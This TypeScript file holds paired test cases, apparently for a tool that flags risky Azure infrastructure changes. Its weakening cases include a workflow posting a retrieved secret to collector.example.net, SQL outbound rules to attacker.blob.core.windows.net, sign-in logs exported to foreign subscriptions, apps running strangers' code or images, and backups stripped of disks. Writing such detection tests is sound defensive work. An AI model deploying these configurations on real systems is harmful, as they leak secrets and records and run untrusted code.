/** Pairs on data that is handed on to others, on code of strangers that runs with an identity, and on backups that leave something out. */
import { azure, OURS, store, THEIRS } from './azure-wiring';
import { armWith, GONE, type Harmless, harmless, pulumiWith, type Weakening, weakenings } from './pair';

const RECORDS = `${OURS}/Microsoft.Storage/storageAccounts/caserecords`;

// ── Data, in a program ─────────────────────────────────────────────────────────────────────────────────────────────

const DATA: Readonly<Record<string, object>> = {
  records: store('caserecords'),
  bus: azure('servicebus:Namespace', { namespaceName: 'casebus' }),
  orders: azure('servicebus:Queue', { namespaceName: 'casebus', queueName: 'orders' }),
  streams: azure('eventhub:Namespace', { namespaceName: 'casestreams' }),
  hub: azure('eventhub:EventHub', {
    namespaceName: 'casestreams',
    eventHubName: 'hub',
    captureDescription: {
      enabled: true,
      destination: { name: 'EventHubArchive.AzureBlockBlob', storageAccountResourceId: RECORDS, blobContainer: 'captured' },
    },
  }),
  workspace: azure('operationalinsights:Workspace', { workspaceName: 'caselogs' }),
  server: azure('sql:Server', { serverName: 'casesql', restrictOutboundNetworkAccess: 'Enabled' }),
  calls: azure('sql:OutboundFirewallRule', { serverName: 'casesql', outboundRuleFqdn: 'caserecords.blob.core.windows.net' }),
  vault: azure('keyvault:Vault', { vaultName: 'casevault', properties: { publicNetworkAccess: 'Disabled' } }),
  endpoint: azure(
    'network:PrivateEndpoint',
    { privateEndpointName: 'caseendpoint' },
    { id: `${OURS}/Microsoft.Network/privateEndpoints/caseendpoint` },
  ),
  factory: azure('datafactory:Factory', { factoryName: 'casefactory' }),
  flow: azure('logic:Workflow', { workflowName: 'caseflow', definition: { triggers: {}, actions: {} } }),
};
const approved = (id: object = {}) =>
  azure('keyvault:PrivateEndpointConnection', {
    vaultName: 'casevault',
    privateEndpointConnectionName: 'theirs',
    privateLinkServiceConnectionState: { status: 'Approved', description: 'asked for' },
    ...id,
  });
const linked = (properties: object) =>
  azure('datafactory:LinkedService', { factoryName: 'casefactory', linkedServiceName: 'x', properties });
const exported = (resourceId: string) =>
  azure('operationalinsights:DataExport', { workspaceName: 'caselogs', dataExportName: 'out', resourceId, tableNames: ['SigninLogs'] });

const DATA_WEAKENINGS = weakenings(pulumiWith, DATA, {
  'Azure ways: the records of a workspace are exported to another subscription': [
    'access: in none of our subscriptions [organisation]',
    { more: exported(`${THEIRS}/Microsoft.Storage/storageAccounts/other`) },
  ],
  'Azure ways: a hub gets a twin of another subscription': [
    'access: in none of our subscriptions [organisation]',
    {
      more: azure('eventhub:DisasterRecoveryConfig', {
        namespaceName: 'casestreams',
        alias: 'twin',
        partnerNamespace: `${THEIRS}/Microsoft.EventHub/namespaces/other`,
      }),
    },
  ],
  'Azure ways: messages go on to another queue of ours': ['access: its messages go on to', { 'orders.forwardTo': 'partner' }],
  'Azure ways: a server may call an account that nobody knows': [
    'access: attacker.blob.core.windows.net',
    { more: azure('sql:OutboundFirewallRule', { serverName: 'casesql', outboundRuleFqdn: 'attacker.blob.core.windows.net' }) },
  ],
  'Azure ways: a server may call a stranger': [
    'access: collector.example.net [internet]',
    { more: azure('sql:OutboundFirewallRule', { serverName: 'casesql', outboundRuleFqdn: 'collector.example.net' }) },
  ],
  'Azure ways: an endpoint that nobody knows is let in': ['exposure|access: the vault vault', { more: approved() }],
  'Azure ways: an endpoint of another subscription is let in': [
    'exposure|access: in none of our subscriptions [organisation]',
    { more: approved({ privateEndpoint: { id: `${THEIRS}/Microsoft.Network/privateEndpoints/theirs` } }) },
  ],
  'Azure ways: a store lets an endpoint in that nobody knows': [
    'exposure|access: the storage account records',
    {
      more: azure('storage:PrivateEndpointConnection', {
        accountName: 'caserecords',
        privateEndpointConnectionName: 'theirs',
        privateLinkServiceConnectionState: { status: 'Approved' },
      }),
    },
  ],
  'Azure ways: a factory exchanges files with a stranger': [
    'access: sftp.example.net [internet]',
    { more: linked({ type: 'Sftp', typeProperties: { host: 'sftp.example.net', port: 22 } }) },
  ],
  'Azure ways: a factory calls a stranger': [
    'access: api.example.net [internet]',
    { more: linked({ type: 'HttpServer', typeProperties: { url: 'https://api.example.net/v1' } }) },
  ],
  'Azure ways: a factory is linked to a store that nobody knows': [
    'access: stranger.blob.core.windows.net',
    { more: linked({ type: 'AzureBlobStorage', typeProperties: { serviceEndpoint: 'https://stranger.blob.core.windows.net' } }) },
  ],
  'Azure ways: a new flow posts to a stranger': [
    'access: collector.example.net [internet]',
    {
      more: azure('logic:Workflow', {
        workflowName: 'morecases',
        definition: {
          triggers: {},
          actions: {
            send: { type: 'Http', inputs: { method: 'POST', uri: 'https://collector.example.net/x', body: "@body('Get_secret')" } },
          },
        },
      }),
    },
  ],
});
const DATA_HARMLESS = harmless(pulumiWith, DATA, {
  'Azure ways: the records of a workspace are exported to an account of ours': { more: exported(RECORDS) },
  'Azure ways: a server may call one more store of ours': {
    rule: azure('sql:OutboundFirewallRule', { serverName: 'casesql', outboundRuleFqdn: 'casestreams.servicebus.windows.net' }),
  },
  'Azure ways: a rule of a server is named differently in the program': {
    calls: GONE,
    told: DATA.calls,
  },
  'Azure ways: an endpoint of ours is let in': {
    more: approved({ privateEndpoint: { id: `${OURS}/Microsoft.Network/privateEndpoints/caseendpoint` } }),
  },
  'Azure ways: an endpoint is refused': {
    more: azure('keyvault:PrivateEndpointConnection', {
      vaultName: 'casevault',
      privateEndpointConnectionName: 'theirs',
      privateLinkServiceConnectionState: { status: 'Rejected' },
    }),
  },
  'Azure ways: a factory is linked to a store of ours': {
    more: linked({ type: 'AzureBlobStorage', typeProperties: { serviceEndpoint: 'https://caserecords.blob.core.windows.net' } }),
  },
});

// ── Data, in a template ────────────────────────────────────────────────────────────────────────────────────────────

const arm = (type: string, name: string, properties: object = {}, more: object = {}) => ({
  type: `Microsoft.${type}`,
  apiVersion: '2024-01-01',
  name,
  ...more,
  properties,
});
const TEMPLATE: Readonly<Record<string, object>> = {
  records: arm('Storage/storageAccounts', 'caserecords', {}, { sku: { name: 'Standard_ZRS' }, kind: 'StorageV2' }),
  streams: arm('EventHub/namespaces', 'casestreams', {}, { sku: { name: 'Standard' } }),
  topic: arm('EventGrid/topics', 'casetopic'),
  told: arm('EventGrid/topics/eventSubscriptions', 'casetopic/told', {
    destination: {
      endpointType: 'ServiceBusQueue',
      properties: { resourceId: "[resourceId('Microsoft.ServiceBus/namespaces/queues','casebus','orders')]" },
    },
  }),
  bus: arm('ServiceBus/namespaces', 'casebus', {}, { sku: { name: 'Premium' } }),
  orders: arm('ServiceBus/namespaces/queues', 'casebus/orders'),
  hub: arm('EventHub/namespaces/eventhubs', 'casestreams/hub', {
    captureDescription: {
      enabled: true,
      destination: {
        name: 'EventHubArchive.AzureBlockBlob',
        properties: {
          storageAccountResourceId: "[resourceId('Microsoft.Storage/storageAccounts','caserecords')]",
          blobContainer: 'captured',
        },
      },
    },
  }),
  workspace: arm('OperationalInsights/workspaces', 'caselogs', { sku: { name: 'PerGB2018' } }),
  server: arm('Sql/servers', 'casesql', { restrictOutboundNetworkAccess: 'Enabled' }),
  database: arm('Sql/servers/databases', 'casesql/cases'),
  vault: arm('KeyVault/vaults', 'casevault', { publicNetworkAccess: 'Disabled', tenantId: '[subscription().tenantId]', sku: {} }),
  flow: arm('Logic/workflows', 'caseflow', {
    definition: { triggers: {}, actions: { tell: { type: 'Http', inputs: { method: 'POST', uri: 'https://api.example.com/a' } } } },
  }),
  factory: arm('DataFactory/factories', 'casefactory'),
  web: arm('Web/sites', 'caseweb', {}, { kind: 'app' }),
};
const FOREIGN = '/subscriptions/99999999-9999-4999-8999-999999999998/resourceGroups/rg/providers';
const WEBHOOK = { endpointType: 'WebHook', properties: { endpointUrl: 'https://collector.example.net/hook' } };

const TEMPLATE_WEAKENINGS = weakenings(armWith, TEMPLATE, {
  'Azure ways: a stranger is told of the events of a topic': [
    'access: collector.example.net [internet]',
    { more: arm('EventGrid/topics/eventSubscriptions', 'casetopic/more', { destination: WEBHOOK }) },
  ],
  'Azure ways: events go to a stranger instead of a queue': ['access: collector.example.net [internet]', { 'told.destination': WEBHOOK }],
  'Azure ways: events go to a hub of a subscription that nobody knows': [
    'access: 99999999-9999-4999-8999-999999999998',
    {
      'told.destination': {
        endpointType: 'EventHub',
        properties: { resourceId: `${FOREIGN}/Microsoft.EventHub/namespaces/other/eventhubs/x` },
      },
    },
  ],
  'Azure ways: events of a store are told to a stranger': [
    'access: collector.example.net [internet]',
    {
      more: arm(
        'EventGrid/eventSubscriptions',
        'more',
        { destination: WEBHOOK },
        { scope: "[resourceId('Microsoft.Storage/storageAccounts','caserecords')]" },
      ),
    },
  ],
  'Azure ways: records are exported to a subscription that nobody knows': [
    'access: 99999999-9999-4999-8999-999999999998',
    {
      more: arm('OperationalInsights/workspaces/dataExports', 'caselogs/out', {
        tableNames: ['SigninLogs'],
        destination: { resourceId: `${FOREIGN}/Microsoft.Storage/storageAccounts/other` },
      }),
    },
  ],
  'Azure ways: what a hub keeps goes to a subscription that nobody knows': [
    'access: 99999999-9999-4999-8999-999999999998',
    { 'hub.captureDescription.destination.properties.storageAccountResourceId': `${FOREIGN}/Microsoft.Storage/storageAccounts/other` },
  ],
  'Azure ways: a template turns the capture of a hub off': ['data: the capture is turned off', { 'hub.captureDescription.enabled': false }],
  'Azure ways: a template drops the capture of a hub': ['data: the capture is turned off', { 'hub.captureDescription': GONE }],
  'Azure ways: a broker gets a twin that nobody knows': [
    'access: 99999999-9999-4999-8999-999999999998',
    {
      more: arm('ServiceBus/namespaces/disasterRecoveryConfigs', 'casebus/twin', {
        partnerNamespace: `${FOREIGN}/Microsoft.ServiceBus/namespaces/other`,
      }),
    },
  ],
  'Azure ways: a template passes messages on': ['access: its messages go on to', { 'orders.forwardTo': 'partner' }],
  'Azure ways: a database is written to an account of somebody': [
    'access: outside.blob.core.windows.net',
    {
      more: arm('Sql/servers/databases/extensions', 'casesql/cases/out', {
        operationMode: 'Export',
        storageUri: 'https://outside.blob.core.windows.net/x/cases.bacpac',
        storageKeyType: 'ManagedIdentity',
      }),
    },
  ],
  'Azure ways: a template lets a server call an account that nobody knows': [
    'access: attacker.blob.core.windows.net',
    { more: arm('Sql/servers/outboundFirewallRules', 'casesql/attacker.blob.core.windows.net') },
  ],
  'Azure ways: a flow of a template posts a secret to a stranger': [
    'access: collector.example.net [internet]',
    {
      'flow.definition.actions.send': {
        type: 'Http',
        inputs: { method: 'POST', uri: 'https://collector.example.net/x', body: "@body('Get_secret')" },
      },
    },
  ],
  'Azure ways: a factory of a template exchanges files with a stranger': [
    'access: sftp.example.net [internet]',
    {
      more: arm('DataFactory/factories/linkedservices', 'casefactory/x', { type: 'Sftp', typeProperties: { host: 'sftp.example.net' } }),
    },
  ],
  'Azure ways: a template lets an endpoint in that nobody knows': [
    'exposure|access: casevault',
    {
      more: arm('KeyVault/vaults/privateEndpointConnections', 'casevault/theirs', {
        privateLinkServiceConnectionState: { status: 'Approved' },
        privateEndpoint: { id: `${FOREIGN}/Microsoft.Network/privateEndpoints/theirs` },
      }),
    },
  ],
});
const TEMPLATE_HARMLESS = harmless(armWith, TEMPLATE, {
  'Azure ways: one more subscription of a template tells a queue of ours': {
    more: arm('EventGrid/topics/eventSubscriptions', 'casetopic/more', {
      destination: {
        endpointType: 'ServiceBusQueue',
        properties: { resourceId: "[resourceId('Microsoft.ServiceBus/namespaces/queues','casebus','orders')]" },
      },
    }),
  },
  'Azure ways: a database is written to an account of ours': {
    more: arm('Sql/servers/databases/extensions', 'casesql/cases/out', {
      operationMode: 'Export',
      storageUri: "[format('{0}exports/cases.bacpac', reference('caserecords').primaryEndpoints.blob)]",
      storageKeyType: 'ManagedIdentity',
    }),
  },
  'Azure ways: a rule of a template for an account of ours': {
    more: arm('Sql/servers/outboundFirewallRules', 'casesql/caserecords.blob.core.windows.net'),
  },
  'Azure ways: a flow of a template calls the same host with more': {
    'flow.definition.actions.more': { type: 'Http', inputs: { method: 'GET', uri: 'https://api.example.com/b' } },
  },
  'Azure ways: records are exported to an account of the template': {
    more: arm('OperationalInsights/workspaces/dataExports', 'caselogs/out', {
      tableNames: ['SigninLogs'],
      destination: { resourceId: "[resourceId('Microsoft.Storage/storageAccounts','caserecords')]" },
    }),
  },
});

// ── Code ───────────────────────────────────────────────────────────────────────────────────────────────────────────

const CODE: Readonly<Record<string, object>> = {
  registry: azure('containerregistry:Registry', { registryName: 'caseimages' }),
  packages: store('casepackages'),
  web: azure('web:WebApp', { name: 'caseweb' }),
  source: azure('web:WebAppSourceControl', { name: 'caseweb', repoUrl: 'https://github.com/example/cases', branch: 'main' }),
  settings: azure('web:WebAppApplicationSettings', {
    name: 'caseweb',
    properties: { WEBSITE_RUN_FROM_PACKAGE: 'https://casepackages.blob.core.windows.net/p/app.zip' },
  }),
  account: azure('automation:AutomationAccount', { automationAccountName: 'casejobs' }),
  flux: azure('kubernetesconfiguration:FluxConfiguration', {
    clusterName: 'casecluster',
    fluxConfigurationName: 'flux',
    gitRepository: { url: 'https://github.com/example/cluster', repositoryRef: { branch: 'main' } },
  }),
  factory: azure('datafactory:Factory', {
    factoryName: 'casefactory',
    repoConfiguration: {
      type: 'FactoryGitHubConfiguration',
      accountName: 'example',
      repositoryName: 'factory',
      collaborationBranch: 'main',
      rootFolder: '/',
    },
  }),
  cluster: azure(
    'containerservice:ManagedCluster',
    { resourceName: 'casecluster' },
    { id: `${OURS}/Microsoft.ContainerService/managedClusters/casecluster` },
  ),
  app: azure('app:ContainerApp', {
    containerAppName: 'caseapp',
    template: { containers: [{ name: 'main', image: 'caseimages.azurecr.io/app:1' }] },
  }),
};
const runbook = (uri: string) =>
  azure('automation:Runbook', {
    automationAccountName: 'casejobs',
    runbookName: 'clean',
    runbookType: 'PowerShell',
    publishContentLink: { uri },
  });

const CODE_WEAKENINGS = weakenings(pulumiWith, CODE, {
  'Azure ways: an app runs the code of a stranger': [
    'access: github.com/someoneelse/app [internet]',
    { 'source.repoUrl': 'https://github.com/someoneelse/app' },
  ],
  'Azure ways: an app runs another repository of ours': [
    'access: github.com/example/other',
    { 'source.repoUrl': 'https://github.com/example/other' },
  ],
  'Azure ways: an app runs another branch': ['access: the branch try', { 'source.branch': 'try' }],
  'Azure ways: an app runs the package of an account that nobody knows': [
    'access: someone.blob.core.windows.net',
    { 'settings.properties.WEBSITE_RUN_FROM_PACKAGE': 'https://someone.blob.core.windows.net/p/app.zip' },
  ],
  'Azure ways: an app runs the package of a stranger': [
    'access: packages.example.net [internet]',
    { 'settings.properties.WEBSITE_RUN_FROM_PACKAGE': 'https://packages.example.net/app.zip' },
  ],
  'Azure ways: a runbook is published by a stranger': [
    'access: github.com/someoneelse/scripts [internet]',
    { more: runbook('https://raw.githubusercontent.com/someoneelse/scripts/main/clean.ps1') },
  ],
  'Azure ways: a cluster runs what a stranger writes': [
    'access: github.com/someoneelse/cluster [internet]',
    { 'flux.gitRepository.url': 'ssh://git@github.com/someoneelse/cluster.git' },
  ],
  'Azure ways: a factory takes its steps from a stranger': [
    'access: github.com/someoneelse/factory [internet]',
    { 'factory.repoConfiguration.accountName': 'someoneelse' },
  ],
  'Azure ways: a cluster lets a workspace of another subscription in': [
    'access: in none of our subscriptions [organisation]',
    {
      more: azure('containerservice:TrustedAccessRoleBinding', {
        resourceName: 'casecluster',
        trustedAccessRoleBindingName: 'ml',
        roles: ['Microsoft.MachineLearningServices/workspaces/mlworkload'],
        sourceResourceId: `${THEIRS}/Microsoft.MachineLearningServices/workspaces/other`,
      }),
    },
  ],
  'Azure ways: an app runs the image of a stranger': [
    'access: docker.io/someoneelse/app [internet]',
    { 'app.template.containers.0.image': 'someoneelse/app:1' },
  ],
  'Azure ways: an app runs an image beside its own': [
    'access: ghcr.io/someoneelse/agent [internet]',
    { 'app.template.containers.1': { name: 'agent', image: 'ghcr.io/someoneelse/agent@sha256:00' } },
  ],
});
const CODE_HARMLESS = harmless(pulumiWith, CODE, {
  'Azure ways: an address of a repository is written in another way': { 'source.repoUrl': 'git@github.com:Example/cases.git' },
  'Azure ways: a runbook is published by us': { more: runbook('https://raw.githubusercontent.com/example/scripts/main/clean.ps1') },
  'Azure ways: an app runs the next package of ours': {
    'settings.properties.WEBSITE_RUN_FROM_PACKAGE': 'https://casepackages.blob.core.windows.net/p/app-2.zip',
  },
  'Azure ways: an app runs the next image of ours': { 'app.template.containers.0.image': 'caseimages.azurecr.io/app:2' },
  'Azure ways: an image of Microsoft runs beside ours': {
    'app.template.containers.1': { name: 'agent', image: 'mcr.microsoft.com/azuremonitor/agent:1' },
  },
});

// ── Backups ────────────────────────────────────────────────────────────────────────────────────────────────────────

const BACKUPS: Readonly<Record<string, object>> = {
  machine: azure('recoveryservices:ProtectedItem', {
    vaultName: 'casebackups',
    fabricName: 'Azure',
    containerName: 'machines',
    protectedItemName: 'machine',
    properties: {
      protectedItemType: 'Microsoft.Compute/virtualMachines',
      sourceResourceId: `${OURS}/Microsoft.Compute/virtualMachines/case`,
    },
  }),
  blobs: azure('dataprotection:BackupInstance', {
    vaultName: 'caseblobs',
    backupInstanceName: 'blobs',
    properties: {
      dataSourceInfo: { resourceID: `${OURS}/Microsoft.Storage/storageAccounts/caserecords` },
      policyInfo: {
        policyId: `${OURS}/Microsoft.DataProtection/backupVaults/caseblobs/backupPolicies/daily`,
        policyParameters: {
          backupDatasourceParametersList: [{ objectType: 'BlobBackupDatasourceParameters', containersList: ['docs', 'archive'] }],
        },
      },
    },
  }),
};
const DISKS = 'machine.properties.extendedProperties';
const CONTAINERS = 'blobs.properties.policyInfo.policyParameters.backupDatasourceParametersList.0.containersList';
const BACKUP_WEAKENINGS = weakenings(pulumiWith, BACKUPS, {
  'Azure ways: disks of a machine are left out of its backups': [
    'data: disks',
    { [DISKS]: { diskExclusionProperties: { diskLunList: [0, 1], isInclusionList: false } } },
  ],
  'Azure ways: only one disk of a machine is backed up': [
    'data: disks',
    { [DISKS]: { diskExclusionProperties: { diskLunList: [0], isInclusionList: true } } },
  ],
  'Azure ways: a container is no longer backed up': ['data: docs', { [CONTAINERS]: ['archive'] }],
  'Azure ways: what is backed up is stopped': [
    'data: protection is stopped',
    { 'blobs.properties.currentProtectionState': 'ProtectionStopped' },
  ],
});
const BACKUP_HARMLESS = harmless(pulumiWith, BACKUPS, {
  'Azure ways: containers are listed in another order': { [CONTAINERS]: ['archive', 'docs'] },
  'Azure ways: no disk is left out of backups': { [DISKS]: { diskExclusionProperties: { diskLunList: [], isInclusionList: false } } },
});

export const WAYS_WEAKENINGS: Readonly<Record<string, Weakening>> = {
  ...DATA_WEAKENINGS,
  ...TEMPLATE_WEAKENINGS,
  ...CODE_WEAKENINGS,
  ...BACKUP_WEAKENINGS,
};
export const WAYS_HARMLESS: Readonly<Record<string, Harmless>> = {
  ...DATA_HARMLESS,
  ...TEMPLATE_HARMLESS,
  ...CODE_HARMLESS,
  ...BACKUP_HARMLESS,
};
